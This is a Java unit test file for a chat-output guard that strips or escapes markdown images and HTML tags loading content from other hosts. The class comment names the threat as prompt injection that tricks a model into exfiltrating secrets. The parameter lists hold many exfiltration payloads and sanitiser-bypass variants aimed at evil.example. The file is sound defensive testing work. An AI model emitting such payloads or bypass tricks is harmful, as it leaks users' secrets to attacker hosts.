package dev.gaia.chat.guard;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Texts of a model that was talked into sending secrets away by what a page loads (attack T20). */
class TextGuardTest {

    private static TextGuard guard(boolean links) {
        return new TextGuard(new OwnPlaces(Set.of("own.example")), links);
    }

    private static String shown(String text) {
        var guard = guard(false);
        return guard.add(text) + guard.finish();
    }

    private static String letterByLetter(String text) {
        var guard = guard(false);
        var shown = new StringBuilder();
        for (int i = 0; i < text.length(); i++) {
            shown.append(guard.add(text.substring(i, i + 1)));
        }
        return shown.append(guard.finish()).toString();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![a](https://evil.example/p.png?d=secret)",
                "![](https://evil.example/p)",
                "![a](//evil.example/p)",
                "![a](http://own.example@evil.example/p)",
                "![a](https://own.example.evil.example/p)",
                "![a](https:\\\\evil.example/p)",
                "![a](/\\evil.example/p)",
                "![a](&#47;&#47;evil.example/p)",
                "![a](<https://evil.example/p q>)",
                "![a]( https://evil.example/p )",
                "![a](\nhttps://evil.example/p)",
                "![a](https://evil.example/p 'title')",
                "![a](https://evil.example/p \"title\")",
                "![a](ftp://evil.example/p)",
                "![a](javascript:alert(1))",
                "![a][ref]\n\n[ref]: https://evil.example/p",
                "![a][]\n\n[a]: https://evil.example/p",
                "![a]\n\n[a]: https://evil.example/p",
                "![a `](/own.png) ` ](https://evil.example/p)",
                "![a ![b](/own.png)](https://evil.example/p)",
                "![a \\](/own.png) ](https://evil.example/p)",
                "![a <b](/own.png)> ](https://evil.example/p)",
                "text `![a](https://evil.example/p)",
                "!![a](https://evil.example/p)",
                "- ```\n![a](https://evil.example/p)",
                " ```\n![a](https://evil.example/p)",
                "> ```\n![a](https://evil.example/p)",
                "``` a`b\n![a](https://evil.example/p)",
                "```\ncode\n```\n![a](https://evil.example/p)",
                "```\ncode\n   ````  \n![a](https://evil.example/p)",
                "~~~\ncode\n\u2003~~~\n~~~\n![a](https://evil.example/p)",
                "<div>\n```\n\n![a](https://evil.example/p)",
                "<!--\n\n```\n\n-->\n\n![a](https://evil.example/p)",
                "- <!--\n\n```\n\n-->\n\n![a](https://evil.example/p)"
            })
    void showsNoImageOfAnotherPlace(String text) {
        assertThat(shown(text)).doesNotContain("![a", "![]");
        assertThat(letterByLetter(text)).isEqualTo(shown(text));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![chart](/api/v1/assets/3f/file?expires=1&signature=ab-_)",
                "![chart](https://own.example/c.png \"A title\")",
                "![chart](HTTPS://OWN.example:8080/c.png)",
                "![](c.png)",
                "Wow! [a](https://docs.example/x) and !important",
                "x < y and x <3, <https://docs.example>, a <b>bold</b> word<br/>next<br />",
                "{\"m\":\"pause\",\"p\":{\"secs\":2}} and {\"m\":\"say\",\"p\":{\"text\":\"Hi!\"}}",
                "Grüße 🙂![](/a.png)🙂",
                "```md\n![a](https://any.example/p.png)\n<img src=\"x\">\n```\nEnd.",
                "~~~\n```\n![a](https://any.example/p.png)\n~~~\n",
                "Ends with !",
                "Ends with <",
                "Ends with <img"
            })
    void leavesAlone(String text) {
        assertThat(shown(text)).isEqualTo(text);
        assertThat(letterByLetter(text)).isEqualTo(text);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "<img src=\"https://evil.example/p\">|&lt;img src=\"https://evil.example/p\">",
                "<IMG/src=//evil.example/p>|&lt;IMG/src=//evil.example/p>",
                "<b style=\"background:url(//evil.example)\">x</b>|&lt;b style=\"background:url(//evil.example)\">x</b>",
                "<style>@import '//evil.example';</style>|&lt;style>@import '//evil.example';</style>",
                "<script>x</script>|&lt;script>x</script>",
                "<iframe src=x></iframe>|&lt;iframe src=x></iframe>"
            })
    void makesTextOfTagsThatLoad(String text, String expected) {
        assertThat(shown(text)).isEqualTo(expected);
        assertThat(letterByLetter(text)).isEqualTo(expected);
    }

    @Test
    void breaksLinksToOtherPlacesWhenAskedTo() {
        var guard = guard(true);

        var shown =
                guard.add("[a](https://evil.example/?d=1) [b](/own) [c](https://own.example/x) ![d](//evil.example)")
                        + guard.finish();

        assertThat(shown)
                .isEqualTo("[a] (https://evil.example/?d=1) [b](/own) [c](https://own.example/x) [d] (//evil.example)");
    }

    @Test
    void holdsBackNoMoreThanACandidate() {
        var guard = guard(false);
        int given = 0;
        int shown = 0;
        for (var piece : new String[] {"![", "a".repeat(200), "](", "/".repeat(50_000), "![" + "b".repeat(50_000)}) {
            given += piece.length();
            shown += guard.add(piece).length();
            // The marks of two images may be gone for good.
            assertThat(given - shown).isLessThanOrEqualTo(TextGuard.HELD_MAX + 2);
        }
    }

    @Test
    void showsTheSameHoweverTheTextIsCut() {
        var parts = new String[] {
            "![",
            "a",
            "](",
            "https://evil.example/p",
            "/own.png",
            ")",
            "`",
            "```",
            "\n",
            "~~~",
            "<",
            "img ",
            ">",
            " ",
            "!",
            "]",
            "\r\n",
            "&",
            "\"t\"",
            "[r]"
        };
        var random = new Random(7);
        for (int round = 0; round < 3_000; round++) {
            var text = new StringBuilder();
            for (int i = 0; i < 12; i++) {
                text.append(parts[random.nextInt(parts.length)]);
            }
            assertThat(letterByLetter(text.toString())).as(text.toString()).isEqualTo(shown(text.toString()));
        }
    }
}
